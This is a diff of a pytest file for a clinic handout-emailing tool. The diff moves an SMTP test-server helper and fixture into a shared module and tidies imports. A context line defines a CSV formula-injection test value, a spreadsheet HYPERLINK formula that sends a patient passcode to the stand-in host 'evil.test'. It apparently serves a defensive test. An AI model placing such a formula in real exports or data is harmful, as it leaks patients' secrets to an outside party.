@@ -7,11 +7,9 @@ import csv
 import io
 import json
 import re
-import shutil
 import subprocess
 import time
 import zipfile
-from collections.abc import Iterator
 from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
@@ -20,7 +18,7 @@ import pypdfium2 as pdfium  # type: ignore[import-untyped]
 import pytest
 from conftest import cli, edit, line_of
 from pypdf import PdfReader
-from servers import PASSWORD, USER, SmtpServer
+from servers import ALDER, SmtpServer, use_server
 
 from handoutgen.compose import Request
 from handoutgen.errors import Problem
@@ -32,8 +30,6 @@ from handoutgen.web.batch import Job
 pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS",
                                         "ignore:Session.login_data is deprecated")]
 
-ALDER = "assets/clinics/alder/clinic.yaml"
-BIRCH = "assets/clinics/birch/clinic.yaml"
 NAME, ADDRESS = "Ana Lima", "ana.lima@patients.test"
 # A name that a spreadsheet would run as a formula, sending the cell two columns on (the passcode) away.
 FORMULA = '=HYPERLINK("http://evil.test/?"&E2,"Ana")'
@@ -44,26 +40,6 @@ def one(name: str = NAME, *more: str) -> tuple[str, ...]:
     return ("email", "--clinic", "alder", "--treatment", "needling", "--kind", "consent", "--kind",
             "aftercare", f"--patient-name={name}", "--field", "appointment_date=2026-12-01", "--to",
             ADDRESS, "--appointment-id", "A1001", *more)
-
-
-def use_server(lib: Path, server: SmtpServer, clinic: str = ALDER, settings: str = "") -> None:
-    """Point a clinic's mail settings at the test server and trust its certificate."""
-    path = lib / clinic
-    text = path.read_text(encoding="utf-8").split("\nmail:\n")[0].split("\nprinter:")[0].rstrip("\n")
-    path.write_text(f"{text}\nmail:\n  sender: handouts@clinic.test\n  smtp:\n    host: 127.0.0.1\n"
-                    f"    port: {server.port}\n    security: starttls\n    user: {USER}\n"
-                    "    password_env: TEST_SMTP_PASSWORD\n    ca_file: smtp-cert.pem\n"
-                    f"  retry_delay_seconds: 0.01\n{settings}", encoding="utf-8")
-    shutil.copy(server.cert, path.parent / "smtp-cert.pem")
-
-
-@pytest.fixture
-def smtp(tmp_path: Path, lib: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SmtpServer]:
-    monkeypatch.setenv("TEST_SMTP_PASSWORD", PASSWORD)
-    with SmtpServer(tmp_path) as server:
-        use_server(lib, server)
-        use_server(lib, server, BIRCH)
-        yield server
 
 
 def csv_rows(path: Path) -> list[list[str]]:
@@ -367,7 +343,7 @@ def test_by_default_the_email_names_no_patient_treatment_or_date(lib: Path, tmp_
 
 
 def test_a_clinic_may_choose_a_detailed_body(lib: Path, tmp_path: Path, smtp: SmtpServer) -> None:
-    use_server(lib, smtp, settings="  body: detailed\n")
+    use_server(lib, smtp, body="detailed")
     assert cli(lib, *one(), *NEXT, "--out", str(tmp_path / "mail")).code == 0
     message = smtp.messages[0].message
     assert message["Subject"] == "Alder Test Clinic: your Needling documents"
